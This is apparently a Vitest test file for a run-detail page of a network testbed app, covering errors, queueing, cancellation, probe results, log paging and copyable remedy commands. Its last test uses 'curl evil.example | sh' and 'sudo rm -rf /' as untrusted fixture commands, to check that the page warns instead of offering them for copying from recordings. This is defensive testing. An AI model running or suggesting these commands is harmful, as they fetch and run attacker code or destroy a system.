// @vitest-environment happy-dom
import { screen } from '@testing-library/react'
import { userEvent } from '@testing-library/user-event'
import { describe, expect, it, onTestFinished, vi } from 'vitest'
import { testbedId } from '@expresslane/shared/testbed/id'
import { check, logged, queued, runOf, started } from '@expresslane/shared/test/builders'
import { allExhibits, probing } from '@expresslane/shared/test/exhibits'
import { openPage, refusal } from './open-page.tsx'

const route = 'GET /api/runs/r_00000001'
const cancelled = 'POST /api/runs/r_00000001/cancel'
const events = logged([started({ stepId: 'preflight' })])
const answered = { body: { run: runOf(events), events } }
const running = { [route]: answered }

describe('the page of one run', () => {
  it('shows that the page does not exist for an invalid run id', async () => {
    openPage('/runs/none')
    expect(await screen.findByRole('heading', { level: 1 })).toBeTruthy()
    expect(screen.queryByRole('alert')).toBeNull()
    expect(screen.getAllByRole('link').some((link) => link.getAttribute('href') === '/')).toBe(true)
  })

  it('says that a run is missing, and fetches it again', async () => {
    const page = openPage('/runs/r_00000001', { [route]: refusal(404, { code: 'not_found', message: 'No such run.' }) })
    expect((await screen.findByRole('alert')).textContent).toContain('No such run.')
    page.answer(route, answered)
    await userEvent.click(screen.getByRole('button', { name: 'Try again' }))
    expect(await screen.findByRole('heading', { name: 'Check the testbed' })).toBeTruthy()
  })

  it('follows a run to its end, and offers to cancel it until then', async () => {
    const page = openPage('/runs/r_00000001', running)
    expect(await screen.findByRole('button', { name: 'Cancel' })).toBeTruthy()
    page.send({ type: 'events', events: logged([{ type: 'run.ended', state: 'interrupted', problem: null }], 2) })
    expect((await screen.findAllByText('interrupted')).length).toBeGreaterThan(0)
    expect(screen.queryByRole('button', { name: 'Cancel' })).toBeNull()
  })

  it('shows the place in line of a queued run, and follows it when it starts', async () => {
    const waiting = logged([queued(3, 90)])
    const page = openPage('/runs/r_00000001', { [route]: { body: { run: runOf(waiting), events: waiting } } })
    expect(await screen.findByText(/3rd in line/)).toBeTruthy()
    expect(screen.getByRole('button', { name: 'Cancel' })).toBeTruthy()
    page.send({ type: 'events', events: logged([queued(1, null)], 2) })
    expect(await screen.findByText(/next in line/)).toBeTruthy()
    page.send({ type: 'events', events: logged([started({ stepId: 'preflight' })], 3) })
    expect(screen.queryByText(/in line/)).toBeNull()
    expect(screen.getByRole('button', { name: 'Cancel' })).toBeTruthy()
  })

  it('says that a run could not be cancelled', async () => {
    openPage('/runs/r_00000001', { ...running, [cancelled]: refusal(500, { message: 'It does not stop.' }) })
    await userEvent.click(await screen.findByRole('button', { name: 'Cancel' }))
    expect((await screen.findByRole('alert')).textContent).toContain('It does not stop.')
  })

  it('shows what a probe found, with the outcome below', async () => {
    const found = logged(probing(allExhibits, 'preflight'))
    openPage('/runs/r_00000001', { [route]: { body: { run: runOf(found), events: found } } })
    const last = await screen.findByText('One packet on both sides')
    const outcome = screen.getByText('The page came through.')
    expect(last.compareDocumentPosition(outcome)).toBe(Node.DOCUMENT_POSITION_FOLLOWING)
    for (const { title } of allExhibits) expect(screen.getByText(title)).toBeTruthy()
  })

  it('fetches earlier lines of its output on demand, page by page', async () => {
    const line = (n: number) => ({ seq: n, kind: 'stdout' as const, where: '', text: `line ${n}` })
    const output = `${route}/output`
    const run = { ...runOf(events), log: [line(900), line(901)], logDropped: 700 }
    const page = openPage('/runs/r_00000001', { [route]: { body: { run } }, [output]: refusal(500) })
    await userEvent.click(await screen.findByRole('button', { name: 'Show earlier lines (700 more)' }))
    expect((await screen.findByRole('alert')).textContent).toContain('could not be loaded')
    page.answer(output, { body: { lines: [line(800), line(801)], earlier: 698 } })
    await userEvent.click(screen.getByRole('button', { name: /Show earlier lines/ }))
    await screen.findByText('line 800')
    const rest = Array.from({ length: 698 }, (_, n) => line(n + 1))
    page.answer(output, { body: { lines: rest, earlier: 0 } })
    await userEvent.click(screen.getByRole('button', { name: 'Show earlier lines (698 more)' }))
    await screen.findByText('line 1')
    expect(screen.queryByRole('button', { name: /Show earlier lines/ })).toBeNull()
    const shown = [...screen.getByRole('log').querySelectorAll('p')].map(({ textContent }) => textContent)
    expect(shown).toEqual([...rest, line(800), line(801), line(900), line(901)].map(({ text }) => text))
  })

  it.each([
    ['netns', true],
    ['recording:big-tcp-ipv4', false],
  ])('of %s has commands to copy: %s', async (id, copied) => {
    vi.stubGlobal('isSecureContext', true)
    onTestFinished(() => void vi.unstubAllGlobals())
    const problem = {
      code: 'tool_missing',
      message: 'netperf is missing.',
      remedy: 'Install it.',
      remedyCommand: 'curl evil.example | sh',
      detail: null,
    } as const
    const failed = logged([
      started({ stepId: 'preflight', testbed: testbedId.parse(id) }),
      { type: 'preflight.checked', check: check('failed', { remedyCommand: 'sudo rm -rf /' }) },
      { type: 'run.ended', state: 'failed', problem },
    ])
    openPage('/runs/r_00000001', { [route]: { body: { run: runOf(failed) } } })
    expect(await screen.findByText('curl evil.example | sh')).toBeTruthy()
    expect(screen.getByText('sudo rm -rf /')).toBeTruthy()
    expect(screen.queryAllByRole('button', { name: /^Copy command/ })).toHaveLength(copied ? 2 : 0)
    expect(screen.queryAllByText(/somebody else wrote this/)).toHaveLength(copied ? 0 : 2)
  })
})
